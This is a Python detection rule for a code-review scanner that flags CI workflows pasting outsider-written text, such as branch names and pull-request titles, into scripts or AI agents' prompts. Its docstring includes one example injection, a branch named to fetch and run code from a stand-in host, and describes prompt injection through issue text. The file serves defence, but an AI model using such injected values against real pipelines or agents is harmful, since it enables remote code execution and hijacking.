"""Text that outsiders write, put into a script or an agent's prompt by a template.

What it flags
    In CI, a template that pastes what a stranger may write (a title, a body, a comment, a
    branch name, a commit message, a label, an e-mail address) into `run:`, into the source
    of a script step, or into the prompt of an agent: `${{ github.event.issue.title }}`,
    `${{ github.head_ref }}`, `$(Build.SourceBranchName)`, `<< pipeline.git.branch >>`,
    `{{ body.pull_request.title }}`. Also a value that was handed to a script as data (`env:`)
    and now is pasted into it, an output of a step that copied such a text or that lists the
    changed files, an action's inputs, and an input that is a step's whole program.

Why it matters
    The template is filled in before the shell reads the line: a branch named
    `$(curl evil|sh)` is executed. In a prompt it is read as an order.

How to review it
    Move the text into `env:` and use the variable, quoted, in the script.
    An agent should fetch the text as data, with tools that cannot write.

Not flagged
    Templates in `env:`, `if:`, `with:` of ordinary actions and concurrency groups; numbers
    and hashes (`github.event.pull_request.number`, `…head.sha`); inputs and outputs of which
    nothing says that an outsider writes them. Only noted: a workflow kept as data of tests; a text
    that was pasted before, into a line that is written anew.

Seen in
    Ultralytics (December 2024, GHSA-7x29-qqmq-v6qc): a branch name run by an action. Nx
    (August 2025, GHSA-cxm3-wv7p-598c): a pull request's title. GHSL-2023-271: the names of
    changed files, as an action's output. CWE-94, CWE-77; GitHub Security Lab, "Untrusted
    input"; OWASP CICD-SEC-4.
"""

from collections.abc import Iterator
from dataclasses import replace

from reviewqueue.domain.finding import Confidence, Pathway, Severity, Side
from reviewqueue.domain.paths import Label
from reviewqueue.scan.rule import FileView, Hit, Pattern, Rule, Stability, View, expression
from reviewqueue.scan.structure.outline import Entry, beyond, outline

_CI = frozenset({Label.CI})
_WORDS = (
    r"\bgithub\.(?:head_ref\b|event\.(?:issue|pull_request|comment|review|review_comment|"
    r"discussion|head_commit|commits|pages|workflow_run|release|client_payload|answer)"
    r"(?:[\w.\[\]*'-]*\.)?(?:title|body|message|name|page_name|email|head_ref|ref|label|login|"
    r"head_branch|default_branch|display_title|description|homepage|tag_name)\b)|"
    r"\bgithub\s*\[\s*['\"](?:head_ref|event)['\"]\s*\]|\bgithub\.event\s*\[|"
    r"(?i:\btojson)\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|discussion|"
    r"head_commit|commits))?\s*\)"
)
_OF_A_RUN = r"\b(?:steps|needs|inputs|env|github\.event\.inputs)\b"
_VALUES = rf"\$\{{\{{[^}}\n]*{_OF_A_RUN}"
_EVENTS = (
    r"\{\{-?\s*(?:body|headers)\.[\w.-]+\s*\}\}|\{\{\s*=?\s*(?:inputs|workflow)\.parameters\b|"
    r"\$\(params\.[\w-]*(?:title|body|message|branch|comment|description|author|label)[\w-]*\)"
)
"""What Tekton and Argo put into a task's script."""
_VALUE = rf"\$\{{\{{-?\s*([^}}\n]*?{_OF_A_RUN}[^}}\n]*?)\s*-?\}}\}}"
_AS_DATA = r"^[ \t]*-?[ \t]*['\"]?[A-Za-z_]\w*['\"]?\s*:\s*['\"]?\$\{\{-?\s*([^}\n]+?)\s*-?\}\}"
_VARIABLE = (
    r"['\"]?(?:\$\{\{[^}\n]*\}\}|\$env:\w+|\$\{?[A-Za-z_]\w*\}?|%[A-Z_]\w+%|process\.env\.\w+|"
    r"os\.environ\[[^\]\n]*\]|os\.getenv\([^)\n]*\))['\"]?"
)
"""A value of which the program, or the template, is given the name."""
_WRITTEN = (
    r"(?i)\.outputs\.(?:\w+[_-])?(?:title|body|comment|comment[_-]body|head[_-]ref|commit[_-]message|"
    r"\w*_files)$|"
    r"^inputs\.(?:pr[_-]|issue[_-]|comment[_-])(?:title|body)$"
)
"""An output, by its name, of what an outsider wrote."""
_STEP = r"^[ \t]*-[ \t]"
_ID = r"^[ \t]*-?[ \t]*id\s*:\s*['\"]?([\w-]+)"
_SETS = r"GITHUB_OUTPUT|::set-output|\bsetOutput\b|GITHUB_ENV\b"
_PROGRAM = r"^[ \t]*-?[ \t]*(?:script|run|inlineScript)\s*:\s*['\"]?\$\{\{-?\s*inputs\."
_SCRIPTS = frozenset(["script", "source", "run", "inlinescript"])
_RUNS = frozenset(
    [
        "run",
        "script",
        "prompt",
        "direct_prompt",
        "custom_instructions",
        "override_prompt",
        "system_prompt",
        "append_system_prompt",
        "instructions",
        "user_prompt",
        "additional_instructions",
        "inline",
        "inlinescript",
        "script_stop",
        "command",
        "commands",
        "args",
        "entrypoint",
        "sh",
        "bash",
        "code",
    ]
)
_PROMPTS = frozenset(key for key in _RUNS if "prompt" in key or "instruction" in key)
_SAFE_KEYS = frozenset(
    [
        "if",
        "env",
        "group",
        "concurrency",
        "ref",
        "repository",
        "with",
        "name",
        "run-name",
        "outputs",
    ]
)
_SHELL = (
    r"\brun:|\becho\b|[^=!<>]=[\"'$]|\bscript:|\bcurl\b|\bgit\s|\bgh\s|\bpython|\bnode\b|\bnpm\b|"
    r"\bif\s+\[|\bexport\s|\bdocker\s|`|\|\s|>>|\bconst\s|\blet\s|\bprompt"
)


def check(view: View) -> Iterator[Hit]:
    """Mark each line whose key, or whose look, says that it is executed or obeyed."""
    for trigger, told in ((_WORDS, _outsiders), (_VALUES, _pasted), (_EVENTS, _of_events)):
        for file in view.where(trigger, side=Side.NEW):
            if Label.CI in file.labels or file.path.endswith((".yml", ".yaml")):
                yield from told(file)


def _outsiders(file: FileView) -> Iterator[Hit]:
    lines = {line.number: line for line in file.new(_WORDS)}
    told = set()
    before = _pasted_before(file)
    for entry in outline(file, Side.NEW) if lines else ():
        if entry.number in lines and entry.number not in told and _is_text(entry):
            told.add(entry.number)
            words = frozenset(expression(_WORDS).findall(entry.line))
            is_old = bool(words) and words <= before
            for hit in _executed(file, entry):
                yield replace(hit, severity=Severity.LOW) if is_old else hit
    for line in beyond(file, lines.values()):
        if line.number not in told:
            yield Hit.at(file, line, "text of outsiders, in a file too long to be read in full")


def _pasted_before(file: FileView) -> frozenset[bytes]:
    """Return the texts of outsiders that lines of scripts had, and that go with these."""
    data = expression(_AS_DATA)
    return frozenset(
        word
        for _, text in file.removed_lines()
        if not data.search(text) and expression(_SHELL).search(text)
        for word in expression(_WORDS).findall(text)
    )


def _pasted(file: FileView) -> Iterator[Hit]:
    """Tell values in scripts that were data before, or that an outsider writes."""
    known = _Known(file)
    new = {line.number for line in file.new(_VALUES)}
    told = set()
    for entry in outline(file, Side.NEW) if new else ():
        if entry.number not in new or entry.number in told or _SCRIPTS.isdisjoint(entry.under):
            continue
        message = known.told(entry.line)
        if message:
            told.add(entry.number)
            yield entry.hit(file, message, severity=Severity.MEDIUM, discountable=True)


class _Known:
    """What a file says of the values that its scripts paste."""

    def __init__(self, file: FileView) -> None:
        was_data = expression(_AS_DATA).finditer(file.removed)
        self._data = {bytes(found[1]) for found in was_data}
        self._lines = {
            _nameless(text)
            for text in file.removed.split(b"\n")
            if b"${{" not in text and (b"$" in text or b"env" in text)
        }
        self._copied = _copies(file)
        self._is_action = file.path.endswith(("action.yml", "action.yaml"))

    def told(self, text: bytes) -> str:
        """Return what is wrong with a line of a script; empty where nothing is."""
        if expression(_PROGRAM).search(text):
            return "whoever gives this input writes the program"
        values = [bytes(found[1]) for found in expression(_VALUE).finditer(text)]
        if any(value in self._data for value in values) or (
            values and _nameless(text) in self._lines
        ):
            return "what was handed to the script as data is now pasted into its program"
        if any(expression(_WRITTEN).search(value) for value in values):
            return "what outsiders write, names of files too, is pasted into the program"
        if any(_step(value) in self._copied for value in values):
            return "a step before copied an outsider's text into what is pasted here"
        if self._is_action and any(value.startswith(b"inputs.") for value in values):
            return "whatever a workflow passes to this action is pasted into the program"
        return ""


def _nameless(text: bytes) -> bytes:
    return b" ".join(expression(_VARIABLE).sub(b"\0", text).split())


def _step(value: bytes) -> bytes:
    parts = value.split(b".")
    return parts[1] if parts[0] == b"steps" and len(parts) > 1 else b""


def _copies(file: FileView) -> set[bytes]:
    """Return the ids of the steps that make an outsider's text their output."""
    found: set[bytes] = set()
    for _, _, lines in file.hunks():
        shown = b"\n".join(line[1:] for line in lines if line[:1] != b"-")
        starts = [match.start() for match in expression(_STEP).finditer(shown)]
        for start, end in zip(starts, (*starts[1:], len(shown)), strict=False):
            step = shown[start:end]
            is_copy = expression(_WORDS).search(step) and expression(_SETS).search(step)
            named = expression(_ID).search(step) if is_copy else None
            if named:
                found.add(bytes(named[1]))
    return found


def _of_events(file: FileView) -> Iterator[Hit]:
    new = {line.number for line in file.new(_EVENTS)}
    for entry in outline(file, Side.NEW) if new else ():
        if entry.number in new and not _SCRIPTS.isdisjoint(entry.under):
            new.discard(entry.number)
            message = "what starts the run, and outsiders may write, is put into a script"
            yield entry.hit(file, message, severity=Severity.MEDIUM, discountable=True)


def _is_text(entry: Entry) -> bool:
    return expression(_WORDS).search(entry.line) is not None and b"{{" in entry.line


def _executed(file: FileView, entry: Entry) -> Iterator[Hit]:
    """Tell a text in a script or in an agent's prompt; elsewhere it is data."""
    keys = set(entry.under)
    is_block = not keys.isdisjoint(_RUNS)
    if not is_block:
        if entry.key in _SAFE_KEYS or "env" in keys or "if" in keys:
            return
        if entry.path and entry.path[-1] == entry.path[-1].upper():
            return
        if not expression(_SHELL).search(entry.line):
            return
    if keys & _PROMPTS:
        yield entry.hit(
            file, "text that outsiders write becomes part of an agent's orders", discountable=True
        )
    elif not expression(r"\.(?:user\.)?login\s*(?:\}|\|)").search(entry.line):
        is_owners = expression(r"\bgithub\.event\.release\.").search(entry.line) is not None
        message = "text that outsiders control is put into a script"
        severity = Severity.MEDIUM if is_owners else None
        yield entry.hit(file, message, severity=severity, discountable=True)


RULE = Rule(
    id="workflow-template-injection",
    pathway=Pathway.PERMISSIONS,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    stability=Stability.STABLE,
    summary="puts text that outsiders control into a script or a prompt",
    patterns=(
        Pattern(
            r"\$\{?CI_(?:COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|BRANCH|REF_NAME|TAG\w*|AUTHOR)|"
            r"MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH\w*|LABELS)|PREV_COMMIT_\w+)\b|"
            r"\$\{?(?:BUILDKITE_(?:MESSAGE|BRANCH|TAG)|CIRCLE_(?:BRANCH|TAG)|BITBUCKET_BRANCH|"
            r"DRONE_(?:COMMIT_\w+|PULL_REQUEST_TITLE|\w*BRANCH|TAG)|"
            r"TRAVIS_(?:COMMIT_MESSAGE|BRANCH|TAG|PULL_REQUEST_BRANCH)|APPVEYOR_REPO_\w+|"
            r"SEMAPHORE_GIT_\w+)\b",
            "what a stranger wrote is executed, not only shown",
            line=r"\beval\b|\b(?:ba|z|da)?sh\s+-c\b|\bpython3?\s+-c\b|\bnode\s+-e\b",
            only=_CI,
        ),
        Pattern(
            r"\$\((?:Build\.Source(?:Branch(?:Name)?|VersionMessage|VersionAuthor)|"
            r"System\.PullRequest\.Source(?:Branch|RepositoryURI))\)",
            "a branch's name or a commit's message is put into a script",
            line=r"\b(?:script|bash|powershell|pwsh|run)\s*:|\becho\b|\bgit\s|\bcurl\b|\bdocker\s",
            only=_CI,
            severity=Severity.MEDIUM,
        ),
        Pattern(
            r"<<\s*pipeline\.(?:git\.(?:branch|tag)|trigger_parameters|event\.github)[\w.]*\s*>>",
            "a branch's name is put into a script",
            line=r"\b(?:command|run)\s*:|\becho\b|\bgit\s|\bcurl\b|\bdocker\s|=",
            only=_CI,
            severity=Severity.MEDIUM,
        ),
        Pattern(
            r"\$\{(?:env\.|params\.)?(?:CHANGE_(?:TITLE|BRANCH|AUTHOR\w*)|ghprb\w*(?:Title|Body|"
            r"SourceBranch|CommentBody)|gitlabMergeRequestTitle|gitlabSourceBranch)\}",
            "a pull request's title or branch is put into a script",
            line=r"\b(?:sh|bat|powershell)\b",
            only=_CI,
            severity=Severity.MEDIUM,
        ),
    ),
    triggers=(_WORDS,),
    added_triggers=(_VALUES, _EVENTS),
    check=check,
    version=6,
    in_place=True,
)
